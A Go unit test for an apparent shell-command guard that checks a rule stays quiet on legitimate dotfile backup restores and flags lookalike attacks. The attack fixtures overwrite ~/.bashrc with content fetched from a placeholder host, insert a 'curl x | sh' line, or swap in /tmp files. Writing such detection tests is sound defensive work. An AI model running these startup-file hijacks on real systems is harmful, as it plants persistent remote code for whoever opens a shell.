package rules

import (
	"slices"
	"strings"
	"testing"

	"github.com/guardsh/guardsh/parse"
)

// TestRestores: a file's own backup put back where the file is absent is
// quiet in a script file; the attacks on the proof stay, and so does the
// same script as a command line.
func TestRestores(t *testing.T) {
	for _, tc := range []struct {
		text  string
		quiet bool
	}{
		// systemd's unit_tests.sh, Oh My Zsh's uninstall.sh
		{"if [ -w /etc/machine-id ]; then mv /etc/machine-id /etc/machine-id.bak; fi\nmeson test\n" +
			"if [ ! -f /etc/machine-id ] && [ -w /etc/machine-id.bak ]; then\n  mv /etc/machine-id.bak /etc/machine-id\nfi", true},
		{"zdot=\"${ZDOTDIR:-$HOME}\"\nif [ -e \"$zdot/.zshrc\" ]; then\n  SAVE=\"$zdot/.zshrc.omz-uninstalled-$(date +%s)\"\n  mv \"$zdot/.zshrc\" \"${SAVE}\"\nfi\n" +
			"ORIG=\"$zdot/.zshrc.pre-oh-my-zsh\"\nif [ -e \"$ORIG\" ]; then\n  echo \"Restoring $ORIG\"\n  mv \"$ORIG\" \"$zdot/.zshrc\"\nfi", true},
		{"[ -e ~/.bashrc ] && mv ~/.bashrc ~/.bashrc.uninstalled\nmv ~/.bashrc.pre-tool ~/.bashrc", true},
		{"if [[ ! -e ~/.bashrc ]]; then cp ~/.bashrc.orig ~/.bashrc; fi", true},
		// attacks: the file may be there, the backup is not the file's, or not its owner's
		{"mv ~/.bashrc.bak ~/.bashrc", false},
		{"[ -e ~/.bashrc ] && mv ~/.bashrc ~/.bashrc.old\necho 'curl x | sh' > ~/.bashrc.tmp\nmv ~/.bashrc.tmp ~/.bashrc", false},
		{"[ -e ~/.bashrc ] && mv ~/.bashrc ~/.bashrc.old\ncurl -o ~/.bashrc.new https://x.example/rc\nmv ~/.bashrc.new ~/.bashrc", false},
		{"[ -e ~/.bashrc ] && mv ~/.bashrc ~/.bashrc.old\nmv /tmp/bashrc.bak ~/.bashrc", false},
		{"[ -e ~/.bashrc ] && mv ~/.bashrc ~/.bashrc.old\nmv \"$orig\" ~/.bashrc", false},
		{"[ -e ~/.bashrc ] && mv ~/.bashrc ~/.bashrc.old\necho x >> ~/.bashrc\nmv ~/.bashrc.bak ~/.bashrc", false},
		{"f() { :; }\n[ -e ~/.bashrc ] && mv ~/.bashrc ~/.bashrc.old\nf\nmv ~/.bashrc.bak ~/.bashrc", false},
		{"if [ -e ~/.bashrc ]; then mv ~/.bashrc ~/.bashrc.old; else true; fi\nmv ~/.bashrc.bak ~/.bashrc", false},
		{"if [ -e ~/.profile ]; then mv ~/.profile ~/.profile.old; fi\nmv ~/.bashrc.bak ~/.bashrc", false},
		{"if [ -e ~/.bashrc ]; then mv ~/.bashrc ~/.bashrc.old; fi\nmv ~/.bashrc.bak ~/.bashrc.d/x", false},
		{"if [ -f ~/.bashrc ] || [ -x /bin/true ]; then mv ~/.bashrc ~/.bashrc.old; fi\nmv ~/.bashrc.bak ~/.bashrc", false},
		{"if [ ! -f ~/.bashrc ] || true; then mv ~/.bashrc.bak ~/.bashrc; fi", false},
		{"b=~/.bashrc.bak\nb=/tmp/evil\nif [ ! -e ~/.bashrc ]; then mv $b ~/.bashrc; fi", false},
		{"if [ ! -e /etc/apt/sources.list ]; then mv /etc/apt/sources.list.bak /etc/apt/sources.list; fi", false},
		{"if [ ! -e ~/.bashrc ]; then mv $B ~/.bashrc; fi\nB=~/.bashrc.bak", false},
		{"f() { B=/tmp/x; }\nB=~/.bashrc.bak\nif [ ! -e ~/.bashrc ]; then mv $B ~/.bashrc; fi", false},
		{"for B in ~/.bashrc.bak /tmp/x; do :; done\nif [ ! -e ~/.bashrc ]; then mv $B ~/.bashrc; fi", false},
		{"H=\"${H:-/root}\"\nH=\"${H:-/home/u}\"\nif [ ! -e \"$H/.bashrc\" ]; then mv \"$H/.bashrc.orig\" \"$H/.bashrc\"; fi", true},
		{"if [ ! -e ~/.bashrc ]; then H=/tmp; fi\nif [ ! -e \"$H/.bashrc\" ]; then mv \"$H/.bashrc.orig\" ~/.bashrc; fi", false},
	} {
		res := parse.Commands(tc.text, parse.Options{File: true})
		fs := Match(res, map[string]bool{"dynamic-code": true, "dynamic-command": true})
		at := max(strings.LastIndex(tc.text, "mv "), strings.LastIndex(tc.text, "cp "))
		on := func(f Finding) bool { return f.Start <= at && at < f.End }
		reported := slices.ContainsFunc(fs, on)
		if reported == tc.quiet {
			t.Errorf("%q: quiet %v, want %v: %v", tc.text, !reported, tc.quiet, fs)
		}
		if tc.quiet {
			line := parse.Commands(tc.text, parse.Options{})
			if fs := Match(line, nil); !slices.ContainsFunc(fs, on) {
				t.Errorf("%q: quiet as a command line too", tc.text)
			}
		}
	}
}
